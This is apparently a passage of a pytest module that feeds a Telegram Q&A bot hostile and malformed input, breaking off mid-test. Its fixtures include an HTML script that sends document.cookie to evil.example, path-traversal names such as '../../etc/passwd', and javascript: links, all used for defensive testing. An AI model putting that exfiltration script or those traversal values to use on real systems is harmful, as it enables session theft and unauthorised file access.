"""Hostile input (issue 6): odd, malformed and malicious updates through the real bot.

Every case goes through the real bot (real PTB networking) against the fake Bot API over HTTP,
each with a fresh bot and a fresh copy of corpus and index (built once per module). For each:
the number of replies (0 or exactly 1) once the bot is idle, what the reply says, no ERROR log
record, and the bot still answers a normal question afterwards. File cases also check that
nothing was written outside the corpus folder (the index folder aside: new versions and
``feedback.jsonl`` are expected writes) and nothing unexpected inside it. A few cases go
through the command line. docs/hostile-input.md lists every case.

One module (about 1,100 lines): one table of cases (docs/hostile-input.md mirrors it), run
the same way each.
"""

from __future__ import annotations

import asyncio
import io
import json
import logging
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader, PdfWriter

from index.embedding import SentenceTransformerEmbedder
from tests.botharness import (
    VOLCANOES,
    RunningBot,
    build_template,
    running_bot,
    settle,
    template_settings,
)
from tests.conftest import make_pdf
from tests.fakebotapi import (
    BOT_USERNAME,
    FakeBotApi,
    _make_handler,
    bot_user,
    group,
    private,
    user,
)

pytestmark = pytest.mark.integration

ADMIN = 1001
READER = 2002
HEALTH = 3003  # asks the normal question after each case
GROUP = -100_200
ALLOWED_GROUP = -100_300
CHANNEL = -100_400
MENTION = f"@{BOT_USERNAME}"
QUESTION = "When was Koryolink established?"
GEYSERS = (
    "Geysers of Iceland\n\n"
    "The Strokkur geyser, in the Haukadalur valley, erupts every six to ten minutes and its "
    "column of boiling water often reaches a height of twenty metres.\n"
)
# What the bot says, as patterns (case-insensitive).
ANSWERED_2008 = r"2008"
QUOTE_OR_DECLINE = r"could not find|\n— "
EMPTY = r"question is empty"
HINT = r"only answer questions written as text"
PRIVATE_BOT = r"this bot is private"
OPERATORS_ONLY = r"only the bot's operators"
SLOW_DOWN = r"faster than I can read"


@pytest.fixture(scope="module")
def template(
    real_embedder: SentenceTransformerEmbedder, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    return build_template(tmp_path_factory.mktemp("hostile-template"), real_embedder)


_settings = template_settings


class QuickFakeBotApi(FakeBotApi):
    """The fake server, checking for shutdown every 20 ms rather than 0.5 s (the default of
    ``serve_forever``): one fresh bot per case stays cheap."""

    def start(self) -> QuickFakeBotApi:
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _make_handler(self))
        self._server.daemon_threads = True
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True
        )
        self._thread.start()
        return self


@asynccontextmanager
async def start_bot(
    template: Path, tmp_path: Path, embedder: SentenceTransformerEmbedder, **env: str
) -> AsyncIterator[RunningBot]:
    root = tmp_path / "data"
    shutil.copytree(template, root, symlinks=True)
    with QuickFakeBotApi() as api:
        async with running_bot(
            api,
            _settings(root),
            embedder,
            VERBATIM_ADMIN_IDS=str(ADMIN),
            VERBATIM_RELOAD_SECONDS="0.2",
            **env,
        ) as running:
            yield running


@pytest.fixture
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The bot runs in-process: make the working directory part of what is watched, so a
    write relative to it would show up in the listing of ``tmp_path``."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    return cwd


def assert_no_errors(caplog: pytest.LogCaptureFixture) -> None:
    bad = [
        f"{r.name}: {r.getMessage()}"
        for r in caplog.records
        if r.levelno >= logging.ERROR or r.exc_info is not None
    ]
    assert bad == [], bad


async def assert_still_answers(bot: RunningBot) -> None:
    before = len(bot.api.sent(HEALTH))
    bot.api.text(private(HEALTH), user(HEALTH), QUESTION)
    reply = (await bot.replies(HEALTH, before + 1))[before]
    assert "2008" in reply["text"]


def only_reply(bot: RunningBot, chat: int) -> dict[str, Any]:
    """The bot's one message (in any chat), which must be in ``chat``."""
    sent = bot.api.sent()
    assert len(sent) == 1, [m["text"] for m in sent]
    assert sent[0]["chat"]["id"] == chat
    reply: dict[str, Any] = sent[0]
    return reply


def says(text: str, pattern: str) -> bool:
    return re.search(pattern, text, re.IGNORECASE) is not None


# -- messages ------------------------------------------------------------------------------------

Send = Callable[[FakeBotApi], object]


@dataclass(frozen=True)
class Msg:
    """Something a user (or a channel) sends; ``reply`` is None for no reply at all, or a
    pattern the one reply must match."""

    send: Send
    chat: int
    reply: str | None
    env: dict[str, str] = field(default_factory=dict)
    warns: str | None = None  # a WARNING record that must be logged


def text(uid: int, body: str, **kw: Any) -> Send:
    return lambda api: api.text(private(uid), user(uid), body, **kw)


def in_group(body: str, uid: int = READER, chat: int = GROUP, **kw: Any) -> Send:
    return lambda api: api.text(group(chat), user(uid), body, **kw)


def media(**content: Any) -> Send:
    return lambda api: api.message(private(READER), user(READER), **content)


def entities_text(api: FakeBotApi) -> object:
    return api.message(
        private(READER),
        user(READER),
        text=QUESTION,
        entities=[
            {"type": "bold", "offset": 0, "length": 4},
            {"type": "text_link", "offset": 9, "length": 9, "url": "javascript:alert(1)"},
            {"type": "spoiler", "offset": 19, "length": 11},
            {"type": "custom_emoji", "offset": 30, "length": 1, "custom_emoji_id": "5368324170"},
            {"type": "code", "offset": 100, "length": 50},  # beyond the text
        ],
    )


def channel_post(body: str, kind: str = "channel_post") -> Send:
    channel = {"id": CHANNEL, "type": "channel", "title": "News"}
    extra: dict[str, Any] = {"edit_date": int(time.time())} if kind.startswith("edited") else {}
    return lambda api: api.channel_post(channel, kind=kind, text=body, **extra)


def anonymous_channel_in_group(api: FakeBotApi) -> object:
    """A group message sent on behalf of a channel: ``from`` is Telegram's Channel_Bot."""
    channel_bot = {
        "id": 136817688,
        "is_bot": True,
        "first_name": "Channel",
        "username": "Channel_Bot",
    }
    return api.text(
        group(GROUP),
        channel_bot,
        f"{MENTION} {QUESTION}",
        sender_chat={"id": CHANNEL, "type": "channel", "title": "News"},
    )


def bot_added_to_group(api: FakeBotApi) -> object:
    api.push(
        {
            "my_chat_member": {
                "chat": group(GROUP),
                "from": user(READER),
                "date": int(time.time()),
                "old_chat_member": {"status": "left", "user": bot_user()},
                "new_chat_member": {"status": "member", "user": bot_user()},
            }
        }
    )
    return api.message(group(GROUP), user(READER), new_chat_members=[bot_user()])


NOW = int(time.time())
PHOTO = [
    {"file_id": "p-small", "file_unique_id": "ps", "width": 90, "height": 90, "file_size": 900},
    {"file_id": "p-big", "file_unique_id": "pb", "width": 800, "height": 800, "file_size": 9000},
]
STICKER = {
    "file_id": "sticker-1",
    "file_unique_id": "s1",
    "type": "regular",
    "width": 512,
    "height": 512,
    "is_animated": False,
    "is_video": False,
}
POLL = {
    "id": "poll-1",
    "question": "Which network came first?",
    "options": [
        {"text": "Koryolink", "voter_count": 0, "persistent_id": "o1"},
        {"text": "Kang Song NET", "voter_count": 0, "persistent_id": "o2"},
    ],
    "total_voter_count": 0,
    "is_closed": False,
    "is_anonymous": True,
    "type": "regular",
    "allows_multiple_answers": False,
    "allows_revoting": True,
    "members_only": False,
}
# A poll as an older Bot API sends it: python-telegram-bot 22.8 cannot read it.
OLD_POLL = {
    **POLL,
    "options": [{"text": "Koryolink", "voter_count": 0}],
    "allows_revoting": None,
    "members_only": None,
}
FORWARD_FROM_USER = {"type": "user", "date": NOW - 60, "sender_user": user(5005, "Bob")}
FORWARD_FROM_CHANNEL = {
    "type": "channel",
    "date": NOW - 60,
    "chat": {"id": CHANNEL, "type": "channel", "title": "News"},
    "message_id": 7,
}
ALLOW = {"VERBATIM_ALLOWED_CHAT_IDS": f"{ALLOWED_GROUP},{HEALTH}"}

MESSAGE_CASES = [
    # text
    pytest.param(Msg(text(READER, ""), READER, EMPTY), id="empty-text"),
    pytest.param(Msg(text(READER, "   \n\t  \u00a0 "), READER, EMPTY), id="whitespace-only"),
    pytest.param(Msg(text(READER, "Why " + "x" * 10_000), READER, r"too long"), id="10000-chars"),
    pytest.param(
        Msg(text(READER, "Why " + "really " * 2_000 + "?"), READER, r"too long"), id="14000-words"
    ),
    pytest.param(
        Msg(
            text(
                READER,
                '<a href="javascript:alert(1)">When</a> was <b>Koryolink</b> established?'
                "<script>alert('x')</script> &amp; <tg-spoiler>",
            ),
            READER,
            ANSWERED_2008,
        ),
        id="html-markup",
    ),
    pytest.param(
        Msg(
            text(READER, "**When** was _Koryolink_ `established`? [x](http://e.x)"),
            READER,
            ANSWERED_2008,
        ),
        id="markdown-markup",
    ),
    pytest.param(Msg(entities_text, READER, ANSWERED_2008), id="telegram-entities"),
    pytest.param(
        Msg(
            text(READER, "When\x00 was\x07 Koryolink\x1b established?\x7f\x08"),
            READER,
            ANSWERED_2008,
        ),
        id="control-chars-in-question",
    ),
    pytest.param(Msg(text(READER, "\x00\x01\x1b\x7f\x08"), READER, EMPTY), id="control-chars-only"),
    pytest.param(
        Msg(
            text(READER, "When\u200b was Kory\u200dolink\ufeff established\u2060?"),
            READER,
            ANSWERED_2008,
        ),
        id="zero-width-in-question",
    ),
    pytest.param(
        Msg(text(READER, "\u200b\u200c\u200d\u2060\ufeff"), READER, EMPTY), id="zero-width-only"
    ),
    pytest.param(
        Msg(text(READER, f"\u202e{QUESTION}\u202c"), READER, ANSWERED_2008), id="rtl-override"
    ),
    pytest.param(
        Msg(text(READER, "متى تأسست شركة كوريولينك؟"), READER, QUOTE_OR_DECLINE), id="rtl-arabic"
    ),
    pytest.param(
        Msg(text(READER, "מתי נוסדה Koryolink?"), READER, QUOTE_OR_DECLINE), id="rtl-hebrew-mixed"
    ),
    pytest.param(Msg(text(READER, "🤔🔥👍🏽🇰🇵"), READER, r"no words"), id="emoji-only"),
    pytest.param(
        Msg(text(READER, "高丽电信是什么时候成立的？"), READER, QUOTE_OR_DECLINE), id="chinese"
    ),
    pytest.param(
        Msg(text(READER, "Когда была основана компания Koryolink?"), READER, QUOTE_OR_DECLINE),
        id="russian",
    ),
    pytest.param(
        Msg(text(READER, "https://example.com/koryolink?a=1&b=<x>"), READER, r"link"),
        id="url-only",
    ),
    pytest.param(
        Msg(text(READER, "www.koryolink.example  https://x.example/a?b=c"), READER, r"link"),
        id="links-only",
    ),
    pytest.param(
        Msg(text(READER, "www." * 240 + " koryolink?"), READER, QUOTE_OR_DECLINE),
        id="link-pattern-backtracking-bait",
    ),
    pytest.param(Msg(text(READER, "/frobnicate now"), READER, r"/help"), id="unknown-command"),
    pytest.param(Msg(text(READER, "/ask"), READER, r"usage"), id="ask-without-question"),
    pytest.param(
        Msg(text(READER, "/ask " + "y" * 10_000), READER, r"too long"), id="ask-10000-chars"
    ),
    # not text
    pytest.param(Msg(media(sticker=STICKER), READER, HINT), id="sticker"),
    pytest.param(Msg(media(photo=PHOTO, caption=QUESTION), READER, HINT), id="photo-with-caption"),
    pytest.param(
        Msg(
            media(
                voice={
                    "file_id": "v1",
                    "file_unique_id": "v1u",
                    "duration": 3,
                    "mime_type": "audio/ogg",
                }
            ),
            READER,
            HINT,
        ),
        id="voice",
    ),
    pytest.param(
        Msg(media(location={"latitude": 39.0392, "longitude": 125.7625}), READER, HINT),
        id="location",
    ),
    pytest.param(Msg(media(poll=POLL), READER, HINT), id="poll"),
    pytest.param(
        Msg(media(poll=OLD_POLL), READER, None, warns=r"skipped update \d+ \(message\)"),
        id="unreadable-update",
    ),
    pytest.param(
        Msg(media(contact={"phone_number": "+15550100", "first_name": "Bob"}), READER, HINT),
        id="contact",
    ),
    pytest.param(Msg(media(dice={"emoji": "🎲", "value": 3}), READER, HINT), id="dice"),
    pytest.param(
        Msg(
            lambda api: api.message(
                private(READER), user(READER), kind="edited_message", text=QUESTION, edit_date=NOW
            ),
            READER,
            None,
        ),
        id="edited-message",
    ),
    # channels, forwards, groups
    pytest.param(Msg(channel_post(QUESTION), CHANNEL, None), id="channel-post"),
    pytest.param(
        Msg(channel_post(f"{MENTION} {QUESTION}"), CHANNEL, None), id="channel-post-mentioning-bot"
    ),
    pytest.param(
        Msg(channel_post(QUESTION, "edited_channel_post"), CHANNEL, None), id="edited-channel-post"
    ),
    pytest.param(
        Msg(text(READER, QUESTION, forward_origin=FORWARD_FROM_USER), READER, ANSWERED_2008),
        id="forwarded-from-user",
    ),
    pytest.param(
        Msg(text(READER, QUESTION, forward_origin=FORWARD_FROM_CHANNEL), READER, ANSWERED_2008),
        id="forwarded-from-channel",
    ),
    pytest.param(Msg(anonymous_channel_in_group, GROUP, ANSWERED_2008), id="group-sent-as-channel"),
    pytest.param(Msg(in_group(QUESTION), GROUP, None), id="group-not-addressed"),
    pytest.param(Msg(in_group(MENTION), GROUP, r"ask me a question"), id="group-mention-only"),
    pytest.param(Msg(bot_added_to_group, GROUP, None), id="bot-added-to-group"),
    # operators only
    pytest.param(
        Msg(text(READER, "/reindex"), READER, OPERATORS_ONLY), id="reader-reindex-private"
    ),
    pytest.param(Msg(in_group("/reindex"), GROUP, OPERATORS_ONLY), id="reader-reindex-group"),
    pytest.param(
        Msg(in_group(f"/reindex@{BOT_USERNAME}"), GROUP, OPERATORS_ONLY),
        id="reader-reindex-group-addressed",
    ),
    pytest.param(
        Msg(
            lambda api: api.document(
                group(GROUP), user(READER), "geysers.txt", GEYSERS.encode(), caption=MENTION
            ),
            GROUP,
            OPERATORS_ONLY,
        ),
        id="reader-upload-group",
    ),
    # the allow-list
    pytest.param(Msg(text(READER, QUESTION), READER, PRIVATE_BOT, ALLOW), id="allow-list-text"),
    pytest.param(Msg(text(READER, "/start"), READER, PRIVATE_BOT, ALLOW), id="allow-list-command"),
    pytest.param(Msg(media(sticker=STICKER), READER, PRIVATE_BOT, ALLOW), id="allow-list-sticker"),
    pytest.param(
        Msg(in_group(f"{MENTION} {QUESTION}"), GROUP, None, ALLOW), id="allow-list-group-question"
    ),
    pytest.param(Msg(in_group(MENTION), GROUP, None, ALLOW), id="allow-list-group-mention-only"),
    pytest.param(Msg(in_group("/start"), GROUP, None, ALLOW), id="allow-list-group-command"),
    pytest.param(
        Msg(
            lambda api: api.document(private(ADMIN), user(ADMIN), "geysers.txt", GEYSERS.encode()),
            ADMIN,
            PRIVATE_BOT,
            ALLOW,
        ),
        id="allow-list-upload",
    ),
    pytest.param(
        Msg(
            in_group(f"{MENTION} {QUESTION}", chat=ALLOWED_GROUP),
            ALLOWED_GROUP,
            ANSWERED_2008,
            ALLOW,
        ),
        id="allow-list-allowed-group",
    ),
]


@pytest.mark.parametrize("case", MESSAGE_CASES)
async def test_message(
    case: Msg,
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with start_bot(template, tmp_path, real_embedder, **case.env) as bot:
        case.send(bot.api)
        await settle(bot)
        if case.reply is None:
            assert bot.api.sent() == []
        else:
            reply = only_reply(bot, case.chat)
            assert says(reply["text"], case.reply), reply["text"]
        assert len(bot.api.calls_of("sendMessage")) == len(bot.api.sent())  # none refused
        assert bot.api.calls_of("getFile") == []
        if case.warns is not None:
            warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
            assert any(says(w, case.warns) for w in warnings), warnings
        assert_no_errors(caplog)
        await assert_still_answers(bot)


# -- a burst from one user -----------------------------------------------------------------------

BURSTS = [
    pytest.param(
        lambda api: api.message(private(READER), user(READER), sticker=STICKER), id="stickers"
    ),
    pytest.param(lambda api: api.text(private(READER), user(READER), "/help"), id="commands"),
]


@pytest.mark.parametrize("send", BURSTS)
async def test_a_fast_burst_gets_one_slow_down(
    send: Send,
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with start_bot(template, tmp_path, real_embedder) as bot:
        limit = bot.bot_settings.flood_messages
        for _ in range(3 * limit):
            send(bot.api)
        await settle(bot)
        texts = [m["text"] for m in bot.api.sent(READER)]
        assert len(bot.api.sent()) == len(texts)  # nothing anywhere else
        slow = [t for t in texts if says(t, SLOW_DOWN)]
        assert len(slow) == 1
        assert len(texts) == limit + 1  # the first ones answered, then one warning, then quiet
        assert_no_errors(caplog)
        await assert_still_answers(bot)  # another user is not affected


async def test_a_quick_typist_gets_every_question_answered_in_order(
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """30 questions in 1.5 s (faster than anyone types; once 8 were answered and 21 ignored),
    empty ones among them: each gets its own reply, in the order asked; nothing is dropped.
    The queue has room for all 30 (on a loaded machine more than the default 20 may wait: the
    "too many" reply beyond it is the next test's)."""
    count = 30
    async with start_bot(
        template, tmp_path, real_embedder, VERBATIM_QUEUE_PER_USER=str(count)
    ) as bot:
        asked = [QUESTION if n % 4 else "\u200b" for n in range(count)]
        for n, text in enumerate(asked):
            bot.api.text(private(READER), user(READER), f"{text} {n}" if n % 4 else text)
            await asyncio.sleep(0.05)
        await settle(bot)
        sent = bot.api.sent(READER)
        assert len(sent) == count, [m["text"][:40] for m in sent]
        assert not any(says(m["text"], SLOW_DOWN) for m in sent)
        asked_in = [m["reply_to_message"]["message_id"] for m in sent if "reply_to_message" in m]
        assert len(asked_in) >= count // 2 and asked_in == sorted(asked_in)  # in order asked
        assert sum("empty" in m["text"] for m in sent) == len(range(0, count, 4))
        assert_no_errors(caplog)


async def test_a_flood_beyond_any_typist_gets_one_reply_saying_when_to_go_on(
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with start_bot(template, tmp_path, real_embedder, VERBATIM_QUEUE_PER_USER="5") as bot:
        for n in range(40):  # fetched in one batch: far beyond human speed
            bot.api.text(private(READER), user(READER), f"{QUESTION} {n}")
        await settle(bot)
        texts = [m["text"] for m in bot.api.sent(READER)]
        full = [t for t in texts if "more questions than I can keep up with" in t]
        assert len(full) == 1
        assert 5 <= len(texts) - 1 < 40  # the queue's worth answered, the rest refused once
        assert_no_errors(caplog)
        await assert_still_answers(bot)  # another user is not affected


async def test_operators_are_not_flood_limited(
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """An operator may send a batch (of documents, say): no "slow down" for them."""
    async with start_bot(template, tmp_path, real_embedder) as bot:
        count = 2 * bot.bot_settings.flood_messages
        for _ in range(count):
            bot.api.text(private(ADMIN), user(ADMIN), "/help")
        await settle(bot)
        texts = [m["text"] for m in bot.api.sent(ADMIN)]
        assert len(texts) == count and all("Operators" in t for t in texts)
        assert_no_errors(caplog)


# -- buttons -------------------------------------------------------------------------------------


async def test_a_press_whose_reply_fails_is_answered_once_and_apologised_for_in_the_chat(
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """More is answered (the spinner stops) before its passages are sent; when sending them
    fails, the press is not answered a second time (Telegram refuses that): the apology
    comes as a message in the chat."""
    async with start_bot(template, tmp_path, real_embedder) as bot:
        bot.api.text(private(READER), user(READER), "What will Huawei equipment be used for?")
        (reply,) = await bot.replies(READER, 1)
        more = reply["reply_markup"]["inline_keyboard"][0][0]["callback_data"]
        bot.api.fail("sendMessage", 400, "Bad Request: message is too long")
        bot.api.press(reply, user(READER), more)
        await settle(bot)
        assert len(bot.api.calls_of("answerCallbackQuery")) == 1
        texts = [m["text"] for m in bot.api.sent(READER)]
        assert len(texts) == 2 and texts[1].startswith("Sorry")


def bot_message(
    chat: dict[str, Any], question: str | None = None, button: str | None = None
) -> dict[str, Any]:
    """A message of the bot's, replying to ``question``, with a ``button`` (its data)."""
    message: dict[str, Any] = {
        "message_id": 9001,
        "date": NOW,
        "chat": chat,
        "from": bot_user(),
        "text": "A quote",
    }
    if button is not None:
        message["reply_markup"] = {"inline_keyboard": [[{"text": "More", "callback_data": button}]]}
    if question is not None:
        message["reply_to_message"] = {
            "message_id": 9000,
            "date": NOW,
            "chat": chat,
            "from": user(chat["id"]),
            "text": question,
        }
    return message


@dataclass(frozen=True)
class Press:
    """A callback query with these fields; the answer must match ``answer``."""

    fields: dict[str, Any]
    answer: str
    env: dict[str, str] = field(default_factory=dict)


FORGED_QID = "0123456789ab"
CALLBACK_CASES = [
    pytest.param(
        Press({"data": "hello", "message": bot_message(private(READER))}, r"not recognised"),
        id="unknown-data",
    ),
    pytest.param(
        Press(
            {"data": "more:../../etc/passwd:1", "message": bot_message(private(READER))},
            r"not recognised",
        ),
        id="path-traversal-data",
    ),
    pytest.param(
        Press(
            {"data": "more:" + "f" * 200, "message": bot_message(private(READER))},
            r"not recognised",
        ),
        id="oversized-data",
    ),
    pytest.param(
        Press(
            {"data": f"vote:{FORGED_QID}:sideways", "message": bot_message(private(READER))},
            r"not recognised",
        ),
        id="bad-vote",
    ),
    pytest.param(
        Press(
            {"data": f"vote:{FORGED_QID}:up", "message": bot_message(private(READER))}, r"expired"
        ),
        id="forged-question-id",
    ),
    pytest.param(
        Press(
            {
                "data": f"more:{FORGED_QID}:999",
                "message": bot_message(private(READER), QUESTION, f"more:{FORGED_QID}:999"),
            },
            r"no more passages",
        ),
        id="forged-huge-offset",
    ),
    pytest.param(
        Press(
            {"data": f"more:{FORGED_QID}:1", "message": bot_message(private(READER), QUESTION)},
            r"expired",
        ),
        id="button-not-on-the-message",
    ),
    pytest.param(
        Press(
            {"game_short_name": "tetris", "message": bot_message(private(READER))},
            r"not recognised",
        ),
        id="no-data-game",
    ),
    pytest.param(
        Press({"data": f"vote:{FORGED_QID}:up", "inline_message_id": "inline-1"}, r"expired"),
        id="inline-message-button",
    ),
    pytest.param(
        Press(
            {
                "data": f"more:{FORGED_QID}:1",
                "message": {"message_id": 9001, "date": 0, "chat": private(READER)},
            },
            r"expired",
        ),
        id="inaccessible-message",
    ),
    pytest.param(
        Press(
            {"data": f"vote:{FORGED_QID}:up", "message": bot_message(private(READER), QUESTION)},
            PRIVATE_BOT,
            ALLOW,
        ),
        id="allow-list-button",
    ),
]


@pytest.mark.parametrize("case", CALLBACK_CASES)
async def test_button(
    case: Press,
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with start_bot(template, tmp_path, real_embedder, **case.env) as bot:
        bot.api.callback(user(READER), **case.fields)
        await settle(bot)
        answers = bot.api.calls_of("answerCallbackQuery")
        assert len(answers) == 1
        answer = str(answers[0].params.get("text", ""))
        assert says(answer, case.answer), answer
        assert len(answer) <= 200
        assert bot.api.sent() == []
        assert not (bot.settings.index_dir / "feedback.jsonl").exists()
        assert_no_errors(caplog)
        await assert_still_answers(bot)


# -- inline mode ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Inline:
    query: str
    results: bool  # some results (else none)
    env: dict[str, str] = field(default_factory=dict)


INLINE_CASES = [
    pytest.param(Inline("", results=False), id="empty"),
    pytest.param(Inline("   \t ", results=False), id="whitespace"),
    pytest.param(Inline("\x00\x01\u200b", results=False), id="control-and-zero-width"),
    pytest.param(Inline("🤔🤔", results=False), id="emoji-only"),
    pytest.param(Inline((QUESTION + " ") * 9, results=False), id="over-256-chars"),
    pytest.param(Inline("y" * 5000, results=False), id="5000-chars"),
    pytest.param(
        Inline("<b>When</b> was <i>Koryolink</i> established? &", results=True), id="html"
    ),
    pytest.param(Inline(QUESTION, results=False, env=ALLOW), id="allow-list"),
]


@pytest.mark.parametrize("case", INLINE_CASES)
async def test_inline_query(
    case: Inline,
    template: Path,
    tmp_path: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with start_bot(template, tmp_path, real_embedder, **case.env) as bot:
        bot.api.inline(user(READER), case.query)
        await settle(bot)
        answers = bot.api.calls_of("answerInlineQuery")
        assert len(answers) == 1
        results = answers[0].params["results"]
        if case.results:
            assert results and "2008" in results[0]["description"]
        else:
            assert results == []
        assert bot.api.sent() == []
        assert_no_errors(caplog)
        await assert_still_answers(bot)


# -- files ---------------------------------------------------------------------------------------


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(["Secret plans for 2030."] * 3))))
    writer.encrypt(user_password="open-sesame", owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


HTML_WITH_SCRIPTS = (
    b"<!doctype html><html><head><title>Geysers of Iceland</title>"
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    b"<style>body{display:none}</style></head><body><article><h1>Geysers of Iceland</h1>"
    b"<p>" + GEYSERS.split("\n\n")[1].strip().encode() + b"</p>"
    b"<script>alert('boiling point of mercury')</script>"
    b'<p onclick="alert(1)">The Great Geysir, which gave its name to all geysers, has been '
    b"mostly dormant for decades and erupts only rarely after earthquakes.</p>"
    b"</article></body></html>"
)


@dataclass(frozen=True)
class Upload:
    """A document sent to the bot. ``saved_as``: the corpus file it must become (the reply
    is then "Saved ..." followed by the index report), or None: one reply matching ``reply``
    (or none at all if ``reply`` is None) and nothing stored."""

    name: str | None
    content: bytes
    reply: str | None
    saved_as: str | None = None
    mime: str = "text/plain"
    declared_size: int | None = None
    sender: int = ADMIN
    chat: dict[str, Any] = field(default_factory=lambda: private(ADMIN))
    env: dict[str, str] = field(default_factory=dict)
    fetched: bool = True  # the bot downloads it (only once it passed the cheap checks)
    extra: dict[str, Any] = field(default_factory=dict)  # more message fields


TEXT = GEYSERS.encode()
FILE_CASES = [
    pytest.param(
        Upload(
            "big.txt",
            b"x" * 2048,
            r"too large \(50 MB; the limit is 10 MB\)",
            declared_size=50 * 1024 * 1024,
            fetched=False,
        ),
        id="oversized-declared",
    ),
    pytest.param(
        Upload(
            "big.txt",
            TEXT * 100,
            r"too large \(16\.8 KB; the limit is 4 KB\)",
            declared_size=100,
            env={"VERBATIM_MAX_UPLOAD_BYTES": "4096"},
        ),
        id="oversized-but-declared-small",
    ),
    pytest.param(Upload("empty.txt", b"", r"file is empty", fetched=False), id="zero-bytes"),
    pytest.param(Upload("blank.md", b" \n\n\t \r\n", r"empty"), id="whitespace-only"),
    pytest.param(Upload("notes.txt", bytes(range(256)) * 8, r"binary"), id="binary-as-txt"),
    pytest.param(
        Upload(
            "notes.md",
            b"\x89PNG\r\n\x1a\n" + bytes((i * 37) % 255 + 1 for i in range(512)),
            r"binary",
        ),
        id="png-as-md",
    ),
    pytest.param(
        Upload(
            "report.pdf",
            b"%PDF-1.4\n1 0 obj <<>>\ngarbage\n%%EOF",
            r"corrupt",
            mime="application/pdf",
        ),
        id="corrupt-pdf",
    ),
    pytest.param(Upload("report.pdf", TEXT, r"corrupt", mime="application/pdf"), id="text-as-pdf"),
    pytest.param(
        Upload("secret.pdf", encrypted_pdf(), r"encrypted", mime="application/pdf"),
        id="encrypted-pdf",
    ),
    pytest.param(
        Upload("page.html", HTML_WITH_SCRIPTS, None, saved_as="page.html", mime="text/html"),
        id="html-with-scripts",
    ),
    pytest.param(
        Upload(
            "page.html",
            b"<html><head><script>alert(1)</script></head><body><script>x()</script></body></html>",
            r"no main text",
            mime="text/html",
        ),
        id="html-only-scripts",
    ),
    pytest.param(
        Upload("../../etc/passwd.txt", TEXT, None, saved_as="passwd.txt"), id="name-dotdot"
    ),
    pytest.param(Upload("/abs/path.md", TEXT, None, saved_as="path.md"), id="name-absolute"),
    pytest.param(
        Upload("..\\..\\Windows\\evil.txt", TEXT, None, saved_as="evil.txt"), id="name-windows-path"
    ),
    pytest.param(
        Upload("re\x00po\x07rt\n\r.txt", TEXT, None, saved_as="report.txt"), id="name-control-chars"
    ),
    pytest.param(Upload(".hidden.txt", TEXT, None, saved_as="hidden.txt"), id="name-hidden-file"),
    pytest.param(
        Upload("a" * 300 + ".txt", TEXT, None, saved_as="a" * 80 + ".txt"), id="name-300-chars"
    ),
    pytest.param(
        Upload("invoice\u202etxt.exe", TEXT, r"cannot read \.exe", fetched=False),
        id="name-rtl-override",
    ),
    pytest.param(Upload("..", TEXT, r"without an extension", fetched=False), id="name-dotdot-only"),
    pytest.param(Upload(None, TEXT, r"without an extension", fetched=False), id="no-name"),
    pytest.param(
        Upload(
            "copy of volcanoes.md", VOLCANOES.encode(), r"already in the corpus as volcanoes\.md"
        ),
        id="duplicate",
    ),
    pytest.param(
        Upload(
            "geysers.txt", TEXT, OPERATORS_ONLY, sender=READER, chat=private(READER), fetched=False
        ),
        id="reader-upload-private",
    ),
    pytest.param(
        Upload(
            "geysers.txt",
            TEXT,
            OPERATORS_ONLY,
            sender=READER,
            chat=private(READER),
            fetched=False,
            extra={"forward_origin": {"type": "user", "date": NOW, "sender_user": user(ADMIN)}},
        ),
        id="reader-forwards-admin-upload",
    ),
    pytest.param(
        Upload("geysers.txt", TEXT, None, chat=group(GROUP), fetched=False),
        id="admin-upload-group-unaddressed",
    ),
]


def listing(root: Path) -> dict[str, tuple[int, int]]:
    """Every file and folder under ``root``: (size, mtime_ns); folders as (-1, 0)."""
    out: dict[str, tuple[int, int]] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        stat = path.lstat()
        out[rel] = (-1, 0) if path.is_dir() else (stat.st_size, stat.st_mtime_ns)
    return out


@pytest.mark.parametrize("case", FILE_CASES)
async def test_upload(
    case: Upload,
    template: Path,
    tmp_path: Path,
    workdir: Path,
    real_embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with start_bot(template, tmp_path, real_embedder, **case.env) as bot:
        before = listing(tmp_path)
        api = bot.api
        file_id = f"file-{len(api.files) + 1}"
        api.add_file(file_id, f"documents/{file_id}", case.content)
        document: dict[str, Any] = {
            "file_id": file_id,
            "file_unique_id": file_id[::-1],
            "mime_type": case.mime,
            "file_size": len(case.content) if case.declared_size is None else case.declared_size,
        }
        if case.name is not None:
            document["file_name"] = case.name
